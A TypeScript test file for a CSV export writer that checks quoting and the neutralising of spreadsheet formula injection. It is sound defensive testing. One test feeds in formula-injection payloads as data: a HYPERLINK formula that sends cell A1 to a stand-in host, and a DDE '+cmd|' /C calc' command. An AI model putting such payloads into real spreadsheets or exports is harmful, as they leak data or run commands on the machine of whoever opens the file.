import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { spreadsheetCsv, textCell } from './spreadsheet-csv.js';

const columns = [{ header: 'membre', kind: 'text' }, { header: 'solde', kind: 'number' }] as const;

describe('the one CSV writer of the exports', () => {
  it('writes ordinary values as before: BOM, semicolons, CRLF, quotes only where a cell needs them', () => {
    const csv = spreadsheetCsv({ columns, rows: [['Coop Bâtisseurs', '1234,56'], ['Le "Blob"; SAS', '-12,50'], ['Ligne\r\ncoupée', ''], ['', '0,00']] });
    expect(csv).toBe('\ufeffmembre;solde\r\nCoop Bâtisseurs;1234,56\r\n"Le ""Blob""; SAS";-12,50\r\n"Ligne\r\ncoupée";\r\n;0,00\r\n');
  });

  it('writes any cell that starts no formula byte for byte as the hand-written writer it replaces did', () => {
    const previousCell = (value: string) => (/[;"\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
    const cell = fc.string({ unit: fc.constantFrom('a', 'é', ' ', ';', '"', '\r', '\n', '\t', '=', '-', '€', ','), maxLength: 12 })
      .filter((value) => textCell(value) === value);
    fc.assert(fc.property(fc.array(fc.tuple(cell, cell), { maxLength: 5 }), (rows) => {
      const previous = `\ufeff${[['a', 'b'], ...rows].map((row) => row.map(previousCell).join(';')).join('\r\n')}\r\n`;
      expect(spreadsheetCsv({ columns: [{ header: 'a', kind: 'text' }, { header: 'b', kind: 'text' }], rows })).toBe(previous);
    }));
  });

  it('quotes a bare carriage return or line feed, which a spreadsheet would read as a new row', () => {
    expect(spreadsheetCsv({ columns, rows: [['a\rb', '1'], ['c\nd', '2']] })).toBe('\ufeffmembre;solde\r\n"a\rb";1\r\n"c\nd";2\r\n');
  });

  it('neutralises a text cell that would start a formula, whatever the quoting', () => {
    const rows = [[`=HYPERLINK("http://x/?"&A1,"Coop")`, '1'], [`+cmd|' /C calc'!A0`, '2'], ['@SUM(1+1)', '3'], ['-Coop', '-4'], ['\t=1', '5'], ['\r=1', '6']];
    expect(spreadsheetCsv({ columns, rows })).toBe([
      '\ufeffmembre;solde', `"'=HYPERLINK(""http://x/?""&A1,""Coop"")";1`, `'+cmd|' /C calc'!A0;2`, `'@SUM(1+1);3`, `'-Coop;-4`, `'\t=1;5`, `"'\r=1";6`, '',
    ].join('\r\n'));
  });

  it('neutralises a formula after leading spaces and in full-width forms, and leaves other text alone', () => {
    expect(textCell('  =1+1')).toBe("'  =1+1");
    expect(textCell('\u00a0-2')).toBe("'\u00a0-2");
    expect(textCell('\uFF1D1+1')).toBe("'\uFF1D1+1");
    expect(textCell('\nx')).toBe("'\nx");
    for (const harmless of ['Coop = partage', 'a-b', "l'atelier", '', ' Coop', '12,50']) expect(textCell(harmless)).toBe(harmless);
  });

  it('neutralises a header named by a user, since a pool name may head a column', () => {
    expect(spreadsheetCsv({ columns: [{ header: '=1+1', kind: 'number' }], rows: [['-1,00']] })).toBe("\ufeff'=1+1\r\n-1,00\r\n");
  });

  it('refuses to write anything but a number in a number column, and a row of the wrong width', () => {
    expect(() => spreadsheetCsv({ columns, rows: [['Coop', '=1+1']] })).toThrow(/number column/);
    expect(() => spreadsheetCsv({ columns, rows: [['Coop', '-Coop']] })).toThrow(/number column/);
    expect(() => spreadsheetCsv({ columns, rows: [['Coop']] })).toThrow(/2 cells/);
  });
});
